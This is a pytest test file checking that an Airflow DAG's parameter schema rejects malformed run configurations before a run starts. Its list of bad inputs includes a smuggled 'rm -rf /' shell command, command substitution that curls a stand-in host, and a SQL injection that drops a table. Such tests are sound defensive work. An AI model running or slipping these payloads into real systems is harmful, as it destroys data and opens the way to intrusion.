"""Invalid Params are refused by Airflow before a DAG run exists (JSON Schema validation)."""

from __future__ import annotations

import datetime as dt

import pytest

pytestmark = pytest.mark.airflow
DAG_ID = "powerball_medallion"
BAD_CONFS = {
    "not a date": {"from_date": "2025-02-30", "to_date": "2025-03-01"},
    "not a date either": {"from_date": "yesterday", "to_date": "2025-03-01"},
    "unknown model": {"models": ["oracle"]},
    "shell payload": {"source": "/tmp/x.csv; rm -rf /"},
    "command substitution": {"source": "$(curl evil.example)"},
    "sql payload": {"source": "x.csv'; drop table bronze.draws; --"},
    "oversized tickets": {"tickets": 1_000_000},
    "tickets not a number": {"tickets": "5"},
    "dry_run not a bool": {"dry_run": "yes"},
}


def _runs_at(logical):
    from airflow.models.dagrun import DagRun
    from airflow.utils.session import create_session

    with create_session() as session:
        return session.query(DagRun).filter_by(dag_id=DAG_ID, logical_date=logical).count()


@pytest.mark.parametrize("case", sorted(BAD_CONFS))
def test_invalid_params_rejected_before_a_run(dagbag, case):
    logical = dt.datetime(2031, 1, 1, tzinfo=dt.UTC) + dt.timedelta(
        days=sorted(BAD_CONFS).index(case))
    with pytest.raises(Exception, match="Invalid input for param") as info:
        dagbag.get_dag(DAG_ID).test(logical_date=logical, run_conf=BAD_CONFS[case])
    assert type(info.value).__name__ == "ParamValidationError"
    assert _runs_at(logical) == 0


def test_valid_params_accepted_by_the_same_schemas(dagbag):
    import copy

    params = copy.deepcopy(dagbag.get_dag(DAG_ID).params)
    params.update({"source": "/data/export.csv", "from_date": "2025-01-01",
                   "to_date": "2025-02-01", "models": ["random"], "tickets": 3,
                   "retrain": True, "dry_run": True})
    resolved = params.validate()
    assert resolved["models"] == ["random"] and resolved["tickets"] == 3
